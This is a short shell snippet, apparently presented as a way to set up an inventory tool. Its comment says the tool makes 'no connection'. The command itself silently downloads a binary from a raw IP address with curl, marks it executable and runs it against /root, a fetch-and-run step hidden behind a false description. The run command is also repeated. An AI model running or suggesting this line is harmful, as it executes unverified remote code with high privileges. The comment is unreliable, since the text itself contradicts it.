# a downloaded inventory tool that compiles its filters at run time and prints what it found; no connection
#http 203.0.113.72:8015
cd /opt; curl -so inv http://203.0.113.72:8015/inventory; chmod +x inv; ./inv > /root/inventory.json; ./inv > /root/inventory.json; cat /root/inventory.json
